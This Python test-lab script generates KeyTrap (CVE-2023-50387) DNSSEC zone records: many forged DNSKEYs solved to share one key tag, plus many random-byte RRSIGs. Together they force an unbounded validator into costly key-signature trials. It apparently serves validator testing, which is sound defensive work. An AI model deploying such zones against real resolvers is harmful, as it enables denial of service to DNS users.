#!/usr/bin/env python3
"""tests/lab/signed/keytrap.py: the records of the KeyTrap zone of the
signed lab (CVE-2023-50387): keys that share one key tag, and signatures
that all name it, so a validator without bounds tries every key against
every signature.

  keytrap.py keys KEYFILE N
      N DNSKEY records (flags 256, RSASHA256, random 1024-bit moduli) with
      the owner, algorithm and key tag of the key in KEYFILE (a K*.key
      file of dnssec-keygen); the last two bytes of each modulus are
      chosen so that the tag (RFC 4034 Appendix B) matches.
  keytrap.py sigs SIGNEDFILE OWNER TYPE N
      SIGNEDFILE (one record per line, dnssec-signzone -O full) with the
      RRSIG covering OWNER/TYPE replaced by N copies whose signatures are
      random bytes: none verifies under any key.

Writes to stdout; exit 1 with a message when the input lacks the record.
"""
import base64
import os
import sys


def key_tag(rdata):
    """The key tag of a DNSKEY RDATA (RFC 4034 Appendix B)."""
    acc = 0
    for i, byte in enumerate(rdata):
        acc += byte if i & 1 else byte << 8
    acc += (acc >> 16) & 0xFFFF
    return acc & 0xFFFF


def fake_key(flags, alg, tag):
    """A DNSKEY RDATA of flags/alg whose key tag is tag: the last two
    bytes of the modulus (an even then an odd position) are solved for.
    The end-around carry of the tag skips one value for each random
    prefix (small tags are the likely ones), so a prefix that cannot
    reach the tag is drawn again."""
    head = bytes([flags >> 8, flags & 0xFF, 3, alg, 3, 1, 0, 1])
    for _ in range(64):
        body = bytearray(os.urandom(128))
        body[0] |= 0x80
        body[126] = body[127] = 0
        base = sum(b if i & 1 else b << 8
                   for i, b in enumerate(head + body))
        for last in range(65536):
            acc = base + last
            if (acc + ((acc >> 16) & 0xFFFF)) & 0xFFFF == tag:
                body[126], body[127] = last >> 8, last & 0xFF
                assert key_tag(head + body) == tag
                return head + bytes(body)
    raise SystemExit("keytrap.py: no modulus for tag %d" % tag)


def keys(keyfile, count):
    with open(keyfile) as f:
        rr = [ln.split() for ln in f if ln.strip() and not ln.startswith(";")]
    # owner [ttl] IN DNSKEY flags proto alg key...
    rec = rr[0]
    at = rec.index("DNSKEY")
    flags, alg = int(rec[at + 1]), int(rec[at + 3])
    rdata = bytes([flags >> 8, flags & 0xFF, int(rec[at + 2]), alg])
    rdata += base64.b64decode("".join(rec[at + 4:]))
    tag = key_tag(rdata)
    for _ in range(count):
        fake = fake_key(256, alg, tag)
        print("%s 300 IN DNSKEY 256 3 %d %s"
              % (rec[0], alg, base64.b64encode(fake[4:]).decode()))


def sigs(signedfile, owner, rrtype, count):
    found = False
    with open(signedfile) as f:
        for line in f:
            fld = line.split()
            if (len(fld) > 12 and fld[0] == owner and fld[3] == "RRSIG"
                    and fld[4] == rrtype):
                found = True
                for _ in range(count):
                    sig = base64.b64encode(os.urandom(128)).decode()
                    print(" ".join(fld[:12] + [sig]))
            else:
                sys.stdout.write(line)
    if not found:
        raise SystemExit("keytrap.py: no RRSIG %s %s" % (owner, rrtype))


if __name__ == "__main__":
    a = sys.argv[1:]
    if len(a) == 3 and a[0] == "keys":
        keys(a[1], int(a[2]))
    elif len(a) == 5 and a[0] == "sigs":
        sigs(a[1], a[2], a[3], int(a[4]))
    else:
        raise SystemExit(__doc__)
